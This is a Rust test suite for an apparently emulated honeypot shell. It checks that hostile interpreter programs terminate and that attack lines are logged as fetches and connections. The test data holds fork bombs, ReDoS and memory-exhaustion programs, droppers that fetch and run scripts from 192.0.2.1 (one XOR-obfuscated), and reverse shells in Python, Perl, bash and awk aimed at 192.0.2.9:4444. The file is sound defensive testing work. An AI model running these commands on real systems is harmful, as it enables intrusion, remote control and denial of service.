//! Hostile programs for interpreters: they end, within time, stack and memory. And
//! droppers: what they fetch, start and connect to.

use crate::driver::{Driver, host};
use proptest::prelude::*;
use std::time::{Duration, Instant};
use ukai_shell::Fs;

/// Stack of a worker thread of the usual runtime.
const STACK_BYTES: usize = 2 << 20;

/// Longest that one hostile program may take, unoptimised, on a busy machine.
const TIME_MAX: Duration = Duration::from_secs(20);

/// Runs a program that is piped to an interpreter, on a stack as small as a worker's.
fn run(interpreter: &'static str, program: &str) -> String {
    let program = program.to_owned();
    let thread = std::thread::Builder::new().stack_size(STACK_BYTES).spawn(move || {
        let host = host("server-debian");
        let mut driver = Driver::new(&host, &Fs::new(&host), "root", false);
        let began = Instant::now();
        let mark = "END-OF-PROGRAM";
        driver.run(format!("{interpreter} <<'{mark}'\n{program}\n{mark}\n").as_bytes());
        let took = began.elapsed();
        let head: String = program.chars().take(60).collect();
        assert!(took < TIME_MAX, "{head}: {took:?}");
        String::from_utf8_lossy(&driver.output).into_owned()
    });
    thread.expect("a thread").join().expect("no panic, no overflow")
}

#[test]
fn hostile_python_ends() {
    let deep = |open: &str, close: &str, times: usize| {
        format!("{}1{}", open.repeat(times), close.repeat(times))
    };
    let programs = [
        deep("(", ")", 5_000),
        deep("[", "]", 5_000),
        deep("{1:", "}", 5_000),
        deep("f(", ")", 5_000),
        deep("not ", "", 20_000),
        deep("- ", "", 20_000),
        deep("lambda: ", "", 5_000),
        deep("1 if 1 else ", "", 5_000),
        deep("2**", "", 5_000),
        deep("1+", "", 50_000),
        deep("x.y", ".z", 20_000),
        deep("x[0]", "[0]", 20_000),
        deep("", " < 1", 20_000),
        format!("f'{}'", "{".repeat(3_000)),
        format!("f'{}{}'", "{f\"".repeat(200), "\"}".repeat(200)),
        (0..300).fold(String::new(), |s, n| s + &" ".repeat(n) + "if 1:\n"),
        "def f(): f()\nf()".to_owned(),
        "f = lambda n: f(n + 1) + 1\nf(0)".to_owned(),
        "s = 'exec(s)'\nexec(s)".to_owned(),
        "s = 'eval(s)'\neval(s)".to_owned(),
        "x = []\nx.append(x)\nprint(x, x == x)".to_owned(),
        "d = {}\nd['d'] = d\nprint(d)\nimport json\njson.dumps(d)".to_owned(),
        "x = []\nfor i in range(60): x = [x, x]\nprint(x)".to_owned(),
        "while True: pass".to_owned(),
        "while True: x = [0] * 1000".to_owned(),
        "s = 'a'\nwhile True: s += s".to_owned(),
        "print('a' * 10**9)".to_owned(),
        "print(10**10**10, 1 << 10**9, 9**9**9)".to_owned(),
        "for i in range(10**18): pass".to_owned(),
        "list(range(10**12))".to_owned(),
        "x = {i: i for i in range(10**7)}".to_owned(),
        "x = set()\nfor i in range(10**7): x.add(i)".to_owned(),
        "def g():\n  while True: yield 1\nfor x in g(): break".to_owned(),
        "class A:\n  def __getitem__(self, i): return self[i]\nA()[0]".to_owned(),
        "class A:\n  def __str__(self): return str(self)\nprint(A())".to_owned(),
        "class A: pass\nclass A(A): pass\nclass B(A): pass\nB().x".to_owned(),
        "import os\nwhile True: os.fork()".to_owned(),
        "import os\nwhile True: os.system('python3 -c \"while True: pass\"')".to_owned(),
        "import re\nre.findall('(a*)*b', 'a' * 100000)".to_owned(),
        "import re\nre.compile('(((a{100}){100}){100}){100}')".to_owned(),
        "print('%999999999d' % 1)".to_owned(),
        "print('{:>999999999}'.format(1))".to_owned(),
        "x = 'a' * 1000000\nwhile True: x.replace('a', 'b' * 1000)".to_owned(),
        "import zlib\nwhile True: zlib.decompress(zlib.compress(b'a' * 1000000))".to_owned(),
        "try:\n  while True: [].append(0)\nexcept BaseException: pass\nwhile True: pass".to_owned(),
        "import socket\nwhile True:\n  try: socket.socket().connect(('192.0.2.1', 1))\n  except OSError: pass".to_owned(),
        "import sys\nsys.stdin.read()\ninput()".to_owned(),
        "def f(n):\n  try: f(n + 1)\n  finally: f(n + 1)\nf(0)".to_owned(),
        "x = [1]\nfor i in x: x.append(i)".to_owned(),
        "print(sorted([[1], 'a', {}], key=str), sorted([1, 'a']))".to_owned(),
    ];
    for program in programs {
        run("python3", &program);
    }
}

#[test]
fn hostile_perl_ends() {
    let deep = |open: &str, close: &str, times: usize| {
        format!("{}1{}", open.repeat(times), close.repeat(times))
    };
    let programs = [
        deep("(", ")", 5_000),
        deep("[", "]", 5_000),
        deep("{", "}", 5_000),
        deep("!", "", 20_000),
        deep("- ", "", 20_000),
        deep("\\\\", "", 20_000),
        deep("f(", ")", 5_000),
        deep("not ", "", 5_000),
        deep("1+", "", 50_000),
        deep("$x = ", "", 5_000),
        deep("1 ? 1 : ", "", 5_000),
        deep("", "->[0]", 20_000),
        deep("$x{", "}", 5_000),
        deep("sub { ", " }", 5_000),
        deep("\"@{[", "]}\"", 500),
        "while (1) { }".to_owned(),
        "sub f { f() } f();".to_owned(),
        "$s = 'a'; while (1) { $s .= $s }".to_owned(),
        "print 'a' x 1e12".to_owned(),
        "@a = (1) x 1e9;".to_owned(),
        "push @a, 1 while 1;".to_owned(),
        "$a[1e12] = 1;".to_owned(),
        "for (1..1e12) { }".to_owned(),
        "eval '$x' while 1; eval q{eval $y}".to_owned(),
        "$x = q{eval $x}; eval $x".to_owned(),
        "fork while 1".to_owned(),
        "printf '%999999999d', 1".to_owned(),
        "('a' x 100000) =~ /(a*)*b/".to_owned(),
        "use IO::Socket; while (1) { IO::Socket::INET->new('192.0.2.1:1') }".to_owned(),
        "<<A . <<B . \"\nx\nA\n\"".to_owned(),
        "s/x/y/e; tr/a-z//; y/a/; m{".to_owned(),
    ];
    for program in programs {
        run("perl", &program);
    }
}

/// Pieces of programs.
fn piece() -> impl Strategy<Value = String> {
    let words = prop::sample::select(vec![
        "import os\n",
        "os.system('id')",
        "x",
        "=",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        ":",
        ",",
        ".",
        "print",
        "'a'",
        "\"b\"",
        "b'c'",
        "f'{x}'",
        "f'{",
        "1",
        "2.5",
        "+",
        "-",
        "*",
        "**",
        "%",
        "if ",
        "else",
        "for ",
        "in ",
        "while ",
        "def f",
        "class A",
        "return ",
        "lambda ",
        "try",
        "except ",
        "\n",
        "\n  ",
        "\n    ",
        ";",
        "#",
        "\\",
        "'''",
        "@",
        "not ",
        "and ",
        "is ",
        "open('/tmp/x','w')",
        "[::-1]",
        "[0]",
        ".format",
        ".split()",
        "range(3)",
        "None",
        "exec",
        "eval('1')",
        "yield ",
        "raise ",
        "import ",
        "from os import *\n",
        "global x\n",
        "\u{e9}",
    ]);
    prop_oneof![6 => words.prop_map(str::to_owned), 1 => ".{0,8}"]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_python_ends(pieces in prop::collection::vec(piece(), 0..30)) {
        run("python3", &pieces.concat());
        run("perl", &pieces.concat());
    }
}

/// What a line of a loader asks for.
fn effects(line: &str, served: &[(&str, &str)]) -> (String, Vec<String>) {
    let host = host("server-debian");
    let mut driver = Driver::new(&host, &Fs::new(&host), "root", false);
    driver.merged = true;
    for (url, body) in served {
        driver.served.insert((*url).to_owned(), body.as_bytes().to_vec());
    }
    driver.run(format!("cd /tmp\n{line}\n").as_bytes());
    (String::from_utf8_lossy(&driver.output).into_owned(), std::mem::take(&mut driver.effects))
}

#[test]
fn python_droppers_fetch_and_start() {
    let script = "#!/bin/sh\necho it ran\n";
    let served = [("http://192.0.2.1/s.sh", script), ("http://192.0.2.1/p.py", "print('py ran')")];
    let lines = [
        "python3 -c \"import urllib.request; urllib.request.urlretrieve('http://192.0.2.1/s.sh','/tmp/s.sh')\"; sh /tmp/s.sh",
        "python3 -c \"import urllib.request,os; open('s','wb').write(urllib.request.urlopen('http://192.0.2.1/s.sh').read()); os.chmod('s',0o755); os.system('./s')\"",
        "python3 -c \"import requests; open('s','w').write(requests.get('http://192.0.2.1/s.sh').text)\"; sh s",
        "python3 -c \"import requests,subprocess; r=requests.get('http://192.0.2.1/s.sh', verify=False); subprocess.run(r.content.decode(), shell=True)\"",
        "python3 -c \"import os; os.system('wget -q http://192.0.2.1/s.sh -O s; sh s')\"",
        "python3 -c \"import subprocess; subprocess.Popen('curl -s http://192.0.2.1/s.sh | sh', shell=True)\"",
        "python3 -c \"from itertools import cycle, islice; import os; os.system(bytes(a ^ b for a, b in zip(bytes.fromhex('1c021c1f45541a45111f1109514a565a5c4b455557594b48441657180d59462a59185e59180d5918'), islice(cycle(b'key'), 99))).decode())\"",
        "curl -s http://192.0.2.1/s.sh -o s; python3 -c \"import pty; pty.spawn(['/bin/sh','s'])\"",
    ];
    for line in lines {
        let (output, effects) = effects(line, &served);
        assert!(output.contains("it ran"), "{line}: {output}");
        let fetches = effects.iter().filter(|e| e.contains("http://192.0.2.1/s.sh")).count();
        assert!(fetches >= 1, "{line}: {effects:?}");
    }
    for line in [
        "python3 -c \"import urllib.request; exec(urllib.request.urlopen('http://192.0.2.1/p.py').read())\"",
        "python3 -c \"exec(__import__('urllib.request').request.urlopen('http://192.0.2.1/p.py').read())\"",
        "curl -s http://192.0.2.1/p.py | python3",
        "wget -qO- http://192.0.2.1/p.py | python3 -",
        "wget -q http://192.0.2.1/p.py; python3 p.py",
    ] {
        let (output, effects) = effects(line, &served);
        assert!(output.contains("py ran"), "{line}: {output}");
        assert!(effects.iter().any(|e| e.contains("http://192.0.2.1/p.py")), "{line}: {effects:?}");
    }
}

#[test]
fn what_another_python_would_fetch_is_fetched() {
    for line in [
        "python3 -c \"import urllib2; exec(urllib2.urlopen('http://192.0.2.1/two.py').read())\"",
        "python3 -c \"print urllib2.urlopen('http://192.0.2.1/two.py').read()\"",
    ] {
        let (output, effects) = effects(line, &[]);
        let failed =
            output.contains("No module named 'urllib2'") || output.contains("Missing parentheses");
        assert!(failed, "{output}");
        assert!(
            effects.contains(&"fetch python3 http://192.0.2.1/two.py".to_owned()),
            "{effects:?}"
        );
    }
}

#[test]
fn perl_droppers_fetch_start_and_connect() {
    let served = [("http://192.0.2.1/s.sh", "#!/bin/sh\necho it ran\n")];
    for line in [
        "perl -e 'system(\"wget -q http://192.0.2.1/s.sh -O s; sh s\")'",
        "perl -MHTTP::Tiny -e 'HTTP::Tiny->new->mirror(\"http://192.0.2.1/s.sh\", \"s\"); exec \"sh\", \"s\"'",
        "perl -e 'print `curl -s http://192.0.2.1/s.sh | sh`'",
    ] {
        let (output, effects) = effects(line, &served);
        assert!(output.contains("it ran"), "{line}: {output}");
        assert!(effects.iter().any(|e| e.contains("http://192.0.2.1/s.sh")), "{line}: {effects:?}");
    }
    for line in [
        "perl -e 'use Socket;$i=\"192.0.2.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
        "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"192.0.2.9:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    ] {
        let (output, effects) = effects(line, &[]);
        assert!(
            effects.contains(&"connect perl 192.0.2.9:4444".to_owned()),
            "{line}: {output} {effects:?}"
        );
    }
    let line = "perl -e 'use LWP::Simple; getstore(\"http://192.0.2.1/s.sh\", \"s\")'";
    let (output, effects) = effects(line, &[]);
    assert!(output.contains("Can't locate LWP/Simple.pm in @INC"), "{output}");
    assert!(effects.contains(&"fetch perl http://192.0.2.1/s.sh".to_owned()), "{effects:?}");
}

#[test]
fn what_programs_that_fetch_are_asked_for_is_fetched() {
    for (line, urls) in [
        ("curl -s 'http://192.0.2.1/f[1-2].{a,b}'", &["f1.a", "f1.b", "f2.a", "f2.b"][..]),
        ("printf 'url = \"http://192.0.2.1/k\"\\n' | curl -s -K -", &["k"]),
        ("echo http://192.0.2.1/l | wget -q -i - -O x", &["l"]),
        ("echo m | wget -q -B http://192.0.2.1/ -i -", &["m"]),
        ("curl --socks5-hostname 192.0.2.7:9050 --proto =http -o n http://192.0.2.1/n", &["n"]),
        (
            "s='u=http://192.0.2.1/q;x'; [[ $s =~ u=([^;]+) ]] && curl -s \"${BASH_REMATCH[1]}\"",
            &["q"],
        ),
    ] {
        let (output, effects) = effects(line, &[]);
        for url in urls {
            let whole = format!("http://192.0.2.1/{url}");
            assert!(
                effects.iter().any(|it| it.starts_with("fetch ") && it.ends_with(&whole)),
                "{line}: {output} {effects:?}"
            );
        }
    }
}

#[test]
fn a_reverse_shell_of_python_is_told_of() {
    let line = "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"192.0.2.9\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);'";
    let (output, effects) = effects(line, &[]);
    assert!(
        output.ends_with("ConnectionRefusedError: [Errno 111] Connection refused\n"),
        "{output}"
    );
    assert!(effects.contains(&"connect python3 192.0.2.9:4444".to_owned()), "{effects:?}");
}

#[test]
fn a_reverse_shell_of_bash_is_told_of() {
    for line in [
        "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1",
        "bash -c 'exec 5<>/dev/tcp/192.0.2.9/4444; cat <&5 | sh >&5 2>&1'",
        "sh -c \"bash -c '0<&196;exec 196<>/dev/tcp/192.0.2.9/4444; sh <&196 >&196'\"",
        "nohup bash -c 'sh -i 5<> /dev/tcp/192.0.2.9/4444 0<&5 1>&5 2>&5' &",
        "awk 'BEGIN { system(\"bash -c \\\"bash -i >& /dev/tcp/192.0.2.9/4444 0>&1\\\"\") }'",
    ] {
        let (output, effects) = effects(line, &[]);
        assert!(
            effects.contains(&"connect bash 192.0.2.9:4444".to_owned()),
            "{line}: {output} {effects:?}"
        );
    }
    let host = host("router-mips");
    let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
    driver.run(b"sh -i >& /dev/tcp/192.0.2.9/4444 0>&1\n");
    assert!(!driver.effects.iter().any(|e| e.starts_with("connect")), "{:?}", driver.effects);
}

#[test]
fn jobs_of_at_wait_and_are_samples() {
    let line = "echo 'curl http://192.0.2.1/s.sh | sh' | at now + 1 minute; atq | cut -f2- | wc -l; at -c 1 | tail -2; atrm 1; atq; atrm 1; echo x | at nonsense; echo $?";
    let (output, effects) = effects(line, &[]);
    let mut lines = output.lines();
    assert_eq!(lines.next(), Some("warning: commands will be executed using /bin/sh"));
    let job = lines.next().expect("the job");
    assert!(job.starts_with("job 1 at Thu Oct  9 ") && job.ends_with(":00 2025"), "{output}");
    let rest: Vec<&str> = lines.collect();
    let shown =
        ["1", "curl http://192.0.2.1/s.sh | sh", "", "Cannot find jobid 1", "Garbled time", "1"];
    assert_eq!(rest, shown, "{output}");
    let captured = |effect: &String| effect.starts_with("captured /var/spool/cron/atjobs/a00001");
    assert!(effects.iter().any(captured), "{effects:?}");
}

#[test]
fn php_is_of_the_version_that_its_package_says() {
    let (output, _) = effects("dpkg-query -W -f '${Version}' php8.2-cli; echo; php -v", &[]);
    let mut lines = output.lines().filter(|line| !line.is_empty());
    let package = lines.next().and_then(|line| line.split('-').next()).expect("a version");
    let shown = lines.next().expect("what php says");
    assert!(shown.starts_with(&format!("PHP {package} (cli)")), "{output}");
}

#[test]
fn a_shell_that_python_spawns_is_the_terminals() {
    let host = host("server-debian");
    let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
    driver.run(b"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n");
    driver.output.clear();
    driver.feed(b"cd /var; pwd\n");
    assert!(String::from_utf8_lossy(&driver.output).contains("/var"), "{:?}", driver.output);
    driver.feed(b"exit\n");
    driver.output.clear();
    driver.run(b"pwd\n");
    assert!(String::from_utf8_lossy(&driver.output).contains("/root"), "{:?}", driver.output);
}

#[test]
fn a_person_talks_to_python() {
    let host = host("server-debian");
    let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
    driver.run(b"python3\n");
    for line in ["1+1", "import os", "for i in range(2):", "  print(i)", "", "x", "'a'*3", "exit()"]
    {
        driver.feed(format!("{line}\n").as_bytes());
    }
    let text = String::from_utf8_lossy(&driver.output).into_owned();
    let expected = "Python 3.11.2 (main, Apr 28 2025, 14:11:48) [GCC 12.2.0] on linux\nType \"help\", \"copyright\", \"credits\" or \"license\" for more information.\n>>> 2\n>>> >>> ... ... 0\n1\n>>> Traceback (most recent call last):\n  File \"<stdin>\", line 1, in <module>\nNameError: name 'x' is not defined\n>>> 'aaa'\n>>> ";
    assert_eq!(text, expected);
}
